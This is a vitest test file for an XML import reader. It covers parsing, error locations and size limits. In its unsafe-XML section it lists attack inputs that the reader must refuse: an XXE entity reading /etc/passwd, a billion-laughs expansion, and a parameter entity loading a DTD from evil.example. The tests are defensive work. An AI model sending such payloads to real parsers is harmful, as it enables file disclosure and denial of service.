import { describe, expect, it } from "vitest";
import { readXml, type XmlLimits } from "@/lib/imports/xml-reader";
import { ImportFormatError, ImportLimitError, UnsafeXmlError } from "@/lib/imports/types";

function timed<T>(run: () => T): T {
  const started = performance.now();
  try {
    return run();
  } finally {
    expect(performance.now() - started).toBeLessThan(200);
  }
}

function formatError(xml: string): ImportFormatError {
  try {
    timed(() => readXml(xml));
  } catch (error) {
    if (error instanceof ImportFormatError) return error;
    throw error;
  }
  throw new Error("expected an ImportFormatError");
}

describe("readXml", () => {
  it("reads elements, attributes in both quote styles, text, CDATA, comments and processing instructions", () => {
    const root = readXml(
      `\uFEFF<?xml version="1.0" encoding="UTF-8"?>\n<!-- a comment -->\n<p:Project xmlns:p="urn:x" a='1' b="two &amp; &quot;three&quot;">\n` +
        `  <Name>R&amp;D &lt;plan&gt; &#233;&#x1F680;</Name>\n  <Notes><![CDATA[<b>raw</b> & more]]> tail</Notes>\n  <Empty/>\n<?pi data?></p:Project>\n`,
    );
    expect(root.name).toBe("p:Project");
    expect(root.localName).toBe("Project");
    expect(root.attributes.get("a")).toBe("1");
    expect(root.attributes.get("b")).toBe('two & "three"');
    expect(root.children.map((c) => c.name)).toEqual(["Name", "Notes", "Empty"]);
    expect(root.children[0].text).toBe("R&D <plan> é🚀");
    expect(root.children[0].line).toBe(4);
    expect(root.children[1].text).toBe("<b>raw</b> & more tail");
    expect(root.children[2].children).toEqual([]);
  });

  it("is linear on a large flat document", () => {
    const xml = `<r>${'<t a="1"><v>x &amp; y</v></t>'.repeat(50_000)}</r>`;
    const started = performance.now();
    expect(readXml(xml).children).toHaveLength(50_000);
    expect(performance.now() - started).toBeLessThan(3_000);
  });
});

describe("readXml refuses unsafe XML before reading it", () => {
  const xxe = `<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>\n<x>&e;</x>`;
  const laughs =
    `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">` +
    Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ""};`.repeat(10)}">`).join("") +
    `]><lolz>&lol9;</lolz>`;
  const parameter = `<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><x/>`;
  const late = `<?xml version="1.0"?>\n<!-- first a comment -->\n   \n<!DOCTYPE x>\n<x/>`;
  const lowerCase = `<x/><!doctype x>`;
  const entityOnly = `<x><!ENTITY e "boom"></x>`;

  it.each([
    ["XXE with an external entity", xxe],
    ["billion laughs", laughs],
    ["parameter entities", parameter],
    ["DOCTYPE after comments and whitespace", late],
    ["a lower-case doctype after the root", lowerCase],
    ["an entity declaration without a DOCTYPE", entityOnly],
  ])("%s", (_name, xml) => {
    expect(() => timed(() => readXml(xml))).toThrow(UnsafeXmlError);
  });
});

describe("readXml errors name the line and column where the parser stopped", () => {
  it.each([
    ["an undefined entity", "<x>\n  &nbsp;</x>", "line 2, column 8", /entity is not defined/],
    ["a bare ampersand", "<x>a & b</x>", "line 1, column 12", /never closed/],
    ["a character reference to NUL", "<x>&#0;</x>", "line 1, column 7", /character reference/],
    ["a raw control character", "<x>a\u0001</x>", "line 1, column 5", /not allowed here/],
    ["mismatched tags", "<a>\n<b></a>", "line 2, column 7", /does not match the element opened before it/],
    ["an unclosed element", "<a><b></b>", "line 1, column 10", /<a> is never closed/],
    ["a closing tag without an opening", "<a></a></b>", "line 1, column 11", /never opened/],
    ["two roots", "<a/><b/>", "line 1, column 7", /more than one root/],
    ["text outside the root", "<a/>oops", "line 1, column 8", /outside the root/],
    ["a duplicate attribute", '<a x="1" x="2"/>', "line 1, column 16", /appears twice/],
    ["an unquoted attribute", "<a x=1/>", "line 1, column 6", /in quotes/],
    ["< inside an attribute", '<a x="<"/>', "line 1, column 7", /&lt;/],
    ["an unclosed comment", "<a><!-- no end", "line 1, column 14", /never closed/],
    ["an unclosed CDATA section", "<a><![CDATA[ no end", "line 1, column 19", /never closed/],
    ["a declaration", "<a><!ELEMENT a ANY></a>", "line 1, column 12", /declarations/],
    ["an empty document", "  ", "line 1, column 2", /no root element/],
  ])("%s", (_name, xml, where, message) => {
    const error = formatError(xml);
    expect(error.where).toBe(where);
    expect(error.message).toMatch(message);
  });

  it("refuses 10,000-deep nesting quickly", () => {
    const xml = `${"<a>".repeat(10_000)}${"</a>".repeat(10_000)}`;
    const error = formatError(xml);
    expect(error.message).toMatch(/more than 64 levels/);
    expect(error.where).toBe("line 1, column 195");
  });

  it("refuses a document over the size bound", () => {
    expect(() => readXml(`<a>${"x".repeat(100)}</a>`, { maxDepth: 64, maxLength: 50 })).toThrow(
      /larger than/,
    );
  });
});

describe("readXml keeps fixed budgets whatever the document", () => {
  const limitError = (xml: string, limits: Partial<XmlLimits> = {}): ImportLimitError => {
    try {
      readXml(xml, limits);
    } catch (error) {
      if (error instanceof ImportLimitError) return error;
      throw error;
    }
    throw new Error("expected an ImportLimitError");
  };

  it.each([
    ["elements", `<r>${"<e/>".repeat(1_001)}</r>`, { maxElements: 1_000 }, /more than 1,000 elements/],
    [
      "attributes on one element",
      `<r ${Array.from({ length: 65 }, (_, i) => `a${i}="1"`).join(" ")}/>`,
      {},
      /more than 64 attributes/,
    ],
    ["one attribute's length", `<r a="${"x".repeat(10_001)}"/>`, {}, /attribute a is longer than 10,000/],
    ["one run of text", `<r>${"x".repeat(1_000_001)}</r>`, {}, /longer than 1,000,000 characters/],
    [
      "the text of one element, in pieces",
      `<r>${"x".repeat(600)}<![CDATA[${"y".repeat(600)}]]></r>`,
      { maxTextLength: 1_000 },
      /text of <r> is longer than 1,000/,
    ],
  ])("refuses too many %s, naming the cap", (_what, xml, limits, message) => {
    const error = limitError(xml, limits);
    expect(error).toBeInstanceOf(ImportFormatError);
    expect(error.message).toMatch(message);
    expect(error.where).toMatch(/^line \d+, column \d+$/);
  });

  it("builds only the elements asked for, and still checks the rest", () => {
    const xml = `<p><keep a="1"><x>one</x><drop><x>deep</x></drop></keep><drop>${"<y/>".repeat(1_000)}</drop></p>`;
    const seen: string[] = [];
    const root = readXml(xml, {}, (path) => {
      seen.push(path.join("/"));
      return path.at(-1) !== "drop";
    });
    expect(root.children.map((c) => c.name)).toEqual(["keep"]);
    expect(root.children[0].children.map((c) => c.text)).toEqual(["one"]);
    expect(root.children[0].attributes.get("a")).toBe("1");
    // Asked only for children of kept elements: nothing below a left-out one.
    expect(seen).toEqual(["p/keep", "p/keep/x", "p/keep/drop", "p/drop"]);
    expect(() => readXml(`<p><drop><y></drop></p>`, {}, () => false)).toThrow(ImportFormatError);
  });
});
